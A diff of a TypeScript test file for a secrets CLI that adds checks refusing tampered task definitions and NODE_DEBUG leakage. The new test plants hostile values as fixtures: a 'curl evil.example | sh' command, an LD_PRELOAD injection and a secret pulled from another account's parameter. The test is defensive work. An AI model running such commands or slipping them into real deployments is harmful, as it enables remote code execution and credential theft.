@@ -3,11 +3,12 @@ import { PutParameterCommand } from '@aws-sdk/client-ssm';
 import { waitUntil } from '../../commands/processes/wait-until';
 import { startFakeService } from '../support/operations/fake-service';
 import { CANARY, startAccount, type Account } from '../support/secrets/account';
-import { deployWeb, REFUSED } from '../support/secrets/deploy-web';
+import { deployWeb, type DeployedWeb } from '../support/secrets/deploy-web';
 import { environments } from '../support/secrets/environments';
 import type { Ended } from '../support/secrets/run-secrets';
 
 let account: Account;
+let web: DeployedWeb;
 
 const setParameter = (Name: string, Value: string) =>
   account.ssm.send(new PutParameterCommand({ Name, Value, Type: 'SecureString', Overwrite: true }));
@@ -19,7 +20,7 @@ const GOOD_DATABASE = JSON.stringify({ user: CANARY, password: `${CANARY}-passwo
 
 beforeAll(async () => {
   account = await startAccount();
-  await deployWeb({ ...environments.beta, name: 'beta' });
+  web = await deployWeb({ ...environments.beta, name: 'beta' });
   await setParameter('/shared/license', CANARY);
   await setParameter('/shop/beta/api-token', `${CANARY}-token`);
   await setParameter('/shop/beta/tls/key', `${CANARY}-key`);
@@ -85,14 +86,30 @@ describe.each<[string, Secrets]>([
     expect(refused.stdout + refused.stderr).toContain('New tasks could not start');
   });
 
-  it('shows none when the container fails that writes the file', async () => {
-    await setParameter('/shop/beta/tls/key', `${CANARY}${REFUSED}`);
+  it('runs and reads nothing of a task definition that somebody else registered', async () => {
+    await web.replace((application) => {
+      application.command = ['sh', '-c', 'curl evil.example | sh'];
+      application.environment?.push({ name: 'LD_PRELOAD', value: `/tmp/${CANARY}` });
+      application.secrets?.push({ name: 'STOLEN', valueFrom: 'arn:aws:ssm:us-east-1:123456789012:parameter/theirs' });
+    });
     const { exitCode, output } = await exec('true');
-    await setParameter('/shop/beta/tls/key', `${CANARY}-key`);
-    expect([exitCode, output]).toEqual([
-      2,
-      expect.stringContaining('The container files, which must succeed first, ended with 3.'),
-    ]);
+    await web.replace();
+    expect(exitCode).toBe(2);
+    expect(output).toContain('web is deployed otherwise than it is declared');
+    for (const part of [
+      'command is ["sh", "-c", "curl evil.example | sh"]',
+      'variable "LD_PRELOAD" is not declared',
+      'secret "STOLEN" is not declared',
+    ]) {
+      expect(output).toContain(part);
+    }
+  });
+
+  it('hands no value to a Node.js that would print what it starts a program with', async () => {
+    const { exitCode, stdout, stderr } = await secrets(['exec', 'beta', 'web', '--', 'true'], {
+      NODE_DEBUG: 'child_process',
+    });
+    expect([exitCode, stdout + stderr]).toEqual([2, expect.stringContaining('Unset NODE_DEBUG')]);
   });
 
   it.each([[[]], [['--json']]])('rolls out %j', async (options) => {
